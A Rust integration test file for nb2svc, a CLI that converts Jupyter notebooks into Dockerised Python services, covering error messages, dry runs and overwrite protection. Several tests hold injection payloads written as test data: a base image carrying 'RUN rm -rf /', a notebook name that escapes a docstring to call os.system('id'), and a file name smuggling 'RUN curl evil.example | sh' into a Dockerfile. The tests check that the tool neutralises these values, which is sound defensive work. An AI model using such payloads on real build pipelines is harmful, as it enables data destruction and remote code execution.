//! The command line as a user runs it: files written, exit codes, and error texts, which are
//! part of the interface.

use std::fs;
use std::path::PathBuf;

use predicates::prelude::*;

use crate::support::{files_under, nb2svc, root};

fn fixture(name: &str) -> PathBuf {
    root().join("tests/fixtures/cli").join(name)
}

#[test]
fn help_shows_the_main_options() {
    nb2svc().arg("--help").assert().success().stdout(
        predicate::str::contains("--requirements").and(predicate::str::contains("--dry-run")),
    );
}

#[test]
fn no_arguments_is_a_usage_error() {
    nb2svc()
        .assert()
        .code(2)
        .stderr(predicate::str::contains("<NOTEBOOK>"));
}

#[test]
fn missing_notebook_names_the_file() {
    nb2svc()
        .arg("nope.ipynb")
        .assert()
        .code(1)
        .stderr(predicate::str::starts_with(
            "error: cannot read notebook nope.ipynb: ",
        ));
}

#[test]
fn merge_conflict_is_reported_with_line_and_column() {
    let path = fixture("merge_conflict.ipynb");
    let out = tempfile::tempdir().unwrap();
    nb2svc()
        .arg(&path)
        .arg("-o")
        .arg(out.path().join("svc"))
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains(format!(
                "{} is not a notebook nb2svc can read",
                path.display()
            ))
            .and(predicate::str::contains("line 7, column 1"))
            .and(predicate::str::contains("merge-conflict")),
        );
    assert!(
        !out.path().join("svc").exists(),
        "nothing is written for bad input"
    );
}

#[test]
fn r_kernel_is_refused_by_name() {
    nb2svc()
        .arg(fixture("r_kernel.ipynb"))
        .arg("--dry-run")
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("cannot become a Python service")
                .and(predicate::str::contains("R")),
        );
}

#[test]
fn a_cell_that_is_not_python_is_left_out_with_its_cell_and_line() {
    // Jupyter runs the other cells; so does the service, which does not need this one.
    nb2svc()
        .arg(fixture("syntax_error.ipynb"))
        .arg("--dry-run")
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "warning: cell 2 (id b), line 2, column 12: not valid Python 3",
        ))
        .stdout(predicate::str::contains("the cell is left out"));
    nb2svc()
        .arg(fixture("syntax_error.ipynb"))
        .arg("--dry-run")
        .arg("--strict")
        .assert()
        .code(1)
        .stderr(predicate::str::contains("cell 2 (id b), line 2"));
}

#[test]
fn nbformat_3_notebook_converts() {
    let out = tempfile::tempdir().unwrap();
    nb2svc()
        .arg(fixture("v3.ipynb"))
        .arg("-o")
        .arg(out.path())
        .arg("-q")
        .assert()
        .success();
    let notebook = fs::read_to_string(out.path().join("app/notebook.py")).unwrap();
    assert!(
        notebook.contains("# %% cell 2, line 1\ndef predict(a: int, b: int = 1) -> int:"),
        "{notebook}"
    );
}

#[test]
fn dry_run_prints_the_plan_and_writes_nothing() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("svc");
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-o")
        .arg(&target)
        .arg("--dry-run")
        .assert()
        .success()
        .stdout(
            predicate::str::contains("POST /predict").and(predicate::str::contains("app/main.py")),
        );
    assert!(!target.exists());
}

#[test]
fn json_report_describes_the_plan() {
    let out = tempfile::tempdir().unwrap();
    let output = nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-o")
        .arg(out.path())
        .arg("--json")
        .output()
        .unwrap();
    assert!(output.status.success());
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["plan"]["endpoints"][0]["route"], "/predict");
    assert_eq!(
        report["written"]["created"].as_array().unwrap().len(),
        files_under(out.path()).len()
    );
}

#[test]
fn rerun_changes_nothing_and_changed_files_are_not_clobbered() {
    let out = tempfile::tempdir().unwrap();
    let run = || {
        nb2svc()
            .arg(fixture("double.ipynb"))
            .arg("-o")
            .arg(out.path())
            .assert()
    };
    run().success();
    run()
        .success()
        .stderr(predicate::str::contains("0 created, 0 updated"));
    fs::write(out.path().join("app/main.py"), "# my edit\n").unwrap();
    run()
        .code(1)
        .stderr(predicate::str::contains("app/main.py").and(predicate::str::contains("--force")));
    assert_eq!(
        fs::read_to_string(out.path().join("app/main.py")).unwrap(),
        "# my edit\n"
    );
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-o")
        .arg(out.path())
        .arg("--force")
        .assert()
        .success();
    assert!(fs::read_to_string(out.path().join("app/main.py"))
        .unwrap()
        .contains("FastAPI"));
}

#[test]
fn strict_mode_fails_on_an_unlisted_import() {
    nb2svc()
        .arg(fixture("imports_sklearn.ipynb"))
        .arg("-r")
        .arg(fixture("empty_requirements.txt"))
        .arg("--strict")
        .arg("--dry-run")
        .assert()
        .code(1)
        .stderr(predicate::str::contains("scikit-learn"));
}

#[test]
fn invalid_requirement_names_file_and_line() {
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-r")
        .arg(fixture("bad_requirements.txt"))
        .arg("--dry-run")
        .assert()
        .code(1)
        .stderr(predicate::str::contains("bad_requirements.txt:3"));
}

#[test]
fn unknown_endpoint_is_an_error_listing_functions() {
    nb2svc()
        .arg(fixture("double.ipynb"))
        .args(["--endpoint", "score", "--dry-run"])
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("no top-level function `score`")
                .and(predicate::str::contains("predict")),
        );
}

#[test]
fn base_image_with_a_newline_is_refused() {
    nb2svc()
        .arg(fixture("double.ipynb"))
        .args(["--base-image", "python\nRUN rm -rf /", "--dry-run"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("is not a Docker image reference"));
}

#[test]
fn exported_templates_override_the_built_in_ones() {
    let dir = tempfile::tempdir().unwrap();
    let templates = dir.path().join("templates");
    nb2svc().arg("templates").arg(&templates).assert().success();
    assert!(templates.join("main.py").is_file() && templates.join("Dockerfile").is_file());
    let readme = fs::read_to_string(templates.join("README.md")).unwrap();
    fs::write(
        templates.join("README.md"),
        format!("# Course project\n{readme}"),
    )
    .unwrap();
    let out = dir.path().join("svc");
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-o")
        .arg(&out)
        .arg("--templates")
        .arg(&templates)
        .arg("-q")
        .assert()
        .success();
    assert!(fs::read_to_string(out.join("README.md"))
        .unwrap()
        .starts_with("# Course project\n"));
}

#[test]
fn missing_requirements_is_a_warning() {
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("--dry-run")
        .assert()
        .success()
        .stderr(predicate::str::contains("warning: no --requirements given"));
}

/// The generated Python files of `out`: each parses, no `__import__` or `system` is a name or
/// attribute anywhere (the payload is only text inside strings and comments), and each module
/// docstring that names the notebook names it exactly.
const PAYLOAD_IS_TEXT: &str = r#"
import ast, sys
out, name = sys.argv[1], sys.argv[2]
for path in ["app/__init__.py", "app/main.py", "app/notebook.py"]:
    tree = ast.parse(open(f"{out}/{path}", encoding="utf-8").read(), path)
    for node in ast.walk(tree):
        assert not (isinstance(node, ast.Name) and node.id == "__import__"), (path, node.lineno)
        assert not (isinstance(node, ast.Attribute) and node.attr == "system"), (path, node.lineno)
    # Docstrings are wrapped at 88 columns, so a line break may stand for a space.
    docstring = " ".join(ast.get_docstring(tree, clean=False).split())
    assert name in docstring, (path, docstring)
print("ok")
"#;

#[test]
fn a_notebook_name_cannot_close_the_docstrings_it_is_shown_in() {
    use crate::support::{output_text, python, tool_or_skip, works};
    let dir = tempfile::tempdir().unwrap();
    let name = r#"x""" + str(__import__("os").system("id")) + """.ipynb"#;
    let notebook = dir.path().join(name);
    fs::copy(fixture("double.ipynb"), &notebook).unwrap();
    let out = dir.path().join("svc");
    nb2svc()
        .arg(&notebook)
        .arg("-o")
        .arg(&out)
        .arg("-q")
        .assert()
        .success();
    // The docstring is wrapped at 88 columns: compare with the line breaks as spaces.
    let init = fs::read_to_string(out.join("app/__init__.py"))
        .unwrap()
        .replace('\n', " ");
    assert!(
        init.contains(r#"x\"\"\" + str(__import__(\"os\").system(\"id\"))"#),
        "{init}"
    );
    let test = "a_notebook_name_cannot_close_the_docstrings_it_is_shown_in";
    if !tool_or_skip(test, works(python(), &["--version"]), "python3") {
        return;
    }
    let checked = std::process::Command::new(python())
        .args(["-c", PAYLOAD_IS_TEXT])
        .arg(&out)
        .arg(name)
        .output()
        .unwrap();
    assert!(checked.status.success(), "{}", output_text(&checked));
    // `import app` runs app/__init__.py only: it must print nothing (no `uid=` from `id`).
    let imported = std::process::Command::new(python())
        .args(["-c", "import app"])
        .current_dir(&out)
        .output()
        .unwrap();
    assert!(imported.status.success(), "{}", output_text(&imported));
    assert_eq!(output_text(&imported), "");
}

#[test]
fn a_newline_in_the_notebook_name_adds_no_dockerfile_line() {
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain");
    nb2svc()
        .arg(fixture("double.ipynb"))
        .arg("-o")
        .arg(&plain)
        .arg("-q")
        .assert()
        .success();
    let notebook = dir
        .path()
        .join("model\nRUN curl evil.example | sh\n#.ipynb");
    fs::copy(fixture("double.ipynb"), &notebook).unwrap();
    let out = dir.path().join("svc");
    nb2svc()
        .arg(&notebook)
        .arg("-o")
        .arg(&out)
        .arg("-q")
        .assert()
        .success();
    let instructions = |dir: &std::path::Path| -> Vec<String> {
        fs::read_to_string(dir.join("Dockerfile"))
            .unwrap()
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            .map(str::to_string)
            .collect()
    };
    assert_eq!(instructions(&out), instructions(&plain));
    let dockerfile = fs::read_to_string(out.join("Dockerfile")).unwrap();
    let first = dockerfile.lines().next().unwrap();
    assert!(
        first.ends_with(r"from model\nRUN curl evil.example | sh\n#.ipynb."),
        "{dockerfile}"
    );
    for file in ["README.md", "app/__init__.py", "app/notebook.py"] {
        let text = fs::read_to_string(out.join(file)).unwrap();
        assert!(
            !text.lines().any(|l| l.starts_with("RUN curl")),
            "{file}:\n{text}"
        );
    }
}

/// Containment (issue 9): nothing from outside the project, and no secret, is shipped.
mod containment;
/// Credentials in the code (issue 9): read from the environment, never shipped.
mod credentials;
/// Error texts word for word (issue 11).
mod errors;
/// Hostile input (issue 9): deep nesting, colliding `%%writefile` targets, unbounded inputs.
mod hostile;
/// The Python the service runs (issue 10).
mod python;

/// Issue 10: a notebook that trains with no seed of its own is told that the image seeds the
/// global generators, and one that passes `random_state=` is not.
#[test]
fn a_notebook_that_trains_without_a_seed_gets_a_warning() {
    let warning = "warning: the notebook sets no random seed: the image seeds Python's and NumPy's global generators with NB2SVC_SEED (0) before training";
    let said = |args: &[&std::ffi::OsStr]| {
        let output = nb2svc().args(args).arg("--dry-run").output().unwrap();
        assert!(output.status.success());
        crate::support::output_text(&output)
    };
    let unseeded = root().join("tests/fixtures/cases/train_and_dump/notebook.ipynb");
    assert!(said(&[unseeded.as_os_str()]).contains(warning));
    let penguins = root().join("examples/penguins");
    let seeded = said(&[
        penguins.join("penguins.ipynb").as_os_str(),
        "-r".as_ref(),
        penguins.join("requirements.txt").as_os_str(),
    ]);
    assert!(!seeded.contains("sets no random seed"), "{seeded}");
}
